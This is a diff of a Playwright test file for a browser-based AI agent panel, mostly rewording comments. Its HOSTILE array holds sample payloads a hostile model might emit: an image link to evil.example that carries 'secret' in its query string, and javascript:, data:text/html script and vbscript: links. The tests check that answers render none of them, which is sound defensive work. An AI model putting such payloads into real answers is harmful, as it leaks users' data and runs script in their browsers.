@@ -1,14 +1,12 @@
 import type { Page } from "@playwright/test";
 import { expect, expectAccessible, test } from "./fixtures";
 
-/*
- * The agent in the browser, against the assistant that needs no network: it asks the sample shop by the real tools.
- */
+/* Tests the agent in the browser with the offline assistant: it queries the sample shop with the real tools. */
 
 const panel = (page: Page) => page.getByRole("complementary", { name: "Agent" });
 const field = (page: Page) => page.getByRole("textbox", { name: "Message to the agent" });
 
-/** Beside the consoles it is open from the start. */
+/** Opens the console page, where the agent's panel is open by default. */
 async function open(page: Page, slug: string): Promise<void> {
   await page.goto(`/w/${slug}`);
   await field(page).click();
@@ -23,7 +21,7 @@ async function ask(page: Page, text: string): Promise<void> {
   });
 }
 
-/** Answers the next turn in the ai SDK's own chunks, as a model would that says this. */
+/** Answers the next turn with these chunks of the ai SDK, as a model would. */
 async function answerWith(page: Page, chunks: object[]): Promise<void> {
   await page.route("**/api/agent/chat", (route) => {
     const body = [...chunks.map((chunk) => JSON.stringify(chunk)), "[DONE]"]
@@ -74,7 +72,7 @@ test("the panel is open beside consoles and flows from the start, stays away onc
   consolePage,
 }) => {
   await page.goto(`/w/${person.slug}`);
-  // The work keeps the focus.
+  // The focus stays in the work.
   await expect(field(page)).toBeVisible();
   await expect(consolePage.editor).toBeFocused();
   const edge = page.getByRole("separator", { name: "Width of the agent" });
@@ -131,12 +129,12 @@ test("the panel opens when the line was cut before its first use, and what is ty
   consolePage,
 }) => {
   await page.goto(`/w/${person.slug}`);
-  // Its script comes in a quiet moment after the page.
+  // The agent's script loads in a quiet moment after the page.
   await expect(page.locator("html[data-agent-loaded]")).toBeAttached();
-  // The rest of the page has its own parts to load.
+  // The rest of the page loads its scripts separately.
   await expect(consolePage.editor).toBeFocused();
   await context.setOffline(true);
-  // By its key: a pointer over the button would ask for the tip's script.
+  // With its key: a pointer over the button would load the tooltip's script.
   await page.keyboard.press("ControlOrMeta+j");
   await expect(panel(page)).toHaveCount(0);
   await page.keyboard.press("ControlOrMeta+j");
@@ -150,7 +148,7 @@ test("the panel opens when the line was cut before its first use, and what is ty
   await context.setOffline(false);
 });
 
-/** What a hostile model, or a row that it repeats, may put into an answer. */
+/** Content that a hostile model, or a row that it repeats, may put into an answer. */
 const HOSTILE = [
   "![x](https://evil.example/?d=secret) and [Our docs](https://evil.example/docs)",
   "[run](javascript:alert(1)) [run](JaVaScRiPt:alert(1)) [run](data:text/html,<script>alert(1)</script>) [run](vbscript:x)",
@@ -198,7 +196,7 @@ test("a link of an answer shows its host, and no image, markup or script of it r
   const answer = panel(page).locator(".answer");
   await expect(answer.getByRole("link", { name: "Our docs" })).toHaveAttribute("rel", /noreferrer/);
   await expect(answer).toContainText("(evil.example)");
-  // Every other address is none of the web's, or none at all.
+  // No other address is a web address.
   await expect(answer.getByRole("link")).toHaveCount(1);
   await expect(answer.locator("img, script, iframe, style, image, object, embed, form")).toHaveCount(0);
   expect(asked.filter((url) => !url.startsWith(new URL(page.url()).origin))).toEqual([]);
@@ -206,7 +204,7 @@ test("a link of an answer shows its host, and no image, markup or script of it r
 
 declare global {
   interface Window {
-    /** Hands the next chunk of the answer to the page. */
+    /** Passes the next chunk of the answer to the page. */
     sayNext: (chunk: object | null) => void;
   }
 }
@@ -246,7 +244,7 @@ test("an answer grows without flicker: what is drawn stays, and what is open yet
   const answer = panel(page).locator(".answer");
   await expect(answer.locator("strong")).toHaveText("bo");
   await expect(answer).not.toContainText("*");
-  // Marked, so that the same element is known again.
+  // Marked, to identify the same element later.
   await answer
     .locator("p")
     .first()
@@ -270,7 +268,7 @@ test("an answer grows without flicker: what is drawn stays, and what is open yet
 });
 
 test("a failure within the stream says what to do, and the question can be asked again", async ({ page, person }) => {
-  // An answer that the record does not know, as this one, is asked for anew and not replaced there.
+  // The record does not know this answer, so it is requested again and not replaced there.
   await answerWith(page, [
     { type: "start", messageId: "told-by-nobody" },
     { type: "error", errorText: "The model's provider has too much to do. Wait a little, then try again." },
@@ -286,7 +284,7 @@ test("a failure within the stream says what to do, and the question can be asked
 });
 
 test("an answer is stopped, and the question can be changed and sent anew", async ({ page, person }) => {
-  // Nothing comes, as from a model that thinks for long.
+  // No answer, as from a model that thinks for long.
   await page.route("**/api/agent/chat", () => {});
   await open(page, person.slug);
   await field(page).fill("How many orders are there?");
@@ -309,7 +307,7 @@ test("a message that is changed takes the place of the one before it and of what
   await ask(page, "How many customers are there?");
   const said = panel(page).locator(".me");
   await expect(said).toHaveCount(2);
-  // The last one as soon as its answer has ended: reading the record, which gives it another id, changes nothing of it.
+  // The last one as soon as its answer has ended: reloading the record, which gives it another id, does not change it.
   await expect(panel(page).getByRole("button", { name: "Edit and send again" })).toHaveCount(2);
   await panel(page).getByRole("button", { name: "Edit and send again" }).last().click();
   await page.waitForLoadState("networkidle");
@@ -327,7 +325,7 @@ test("a message that is changed takes the place of the one before it and of what
   await expect(said).toHaveText(["How many products are there?"]);
   await page.reload();
   await expect(said).toHaveText(["How many products are there?"]);
-  // Asking again replaces the answer, and the question is there once.
+  // Asking again replaces the answer, and the question appears once.
   const answered = page.waitForResponse((response) => response.url().endsWith("/api/agent/chat"));
   await panel(page).getByRole("button", { name: "Ask again" }).click();
   await answered;
@@ -499,7 +497,7 @@ test("SQL of an answer becomes an edit of the open console, accepted and taken b
   await panel(page).getByRole("button", { name: "Reject" }).click();
   await expect(panel(page).getByText("Edit rejected")).toBeVisible();
   await expect(page.locator(".editor-pane .cm-content")).toHaveText(before);
-  // Whoever has thought better of it looks at it again.
+  // The user can look at the proposal again after rejecting it.
   await panel(page).getByRole("button", { name: "Look again" }).click();
   await panel(page).getByRole("button", { name: "Accept" }).click();
   await expect(page.locator(".editor-pane .cm-content")).toHaveText("select 42 as answer");
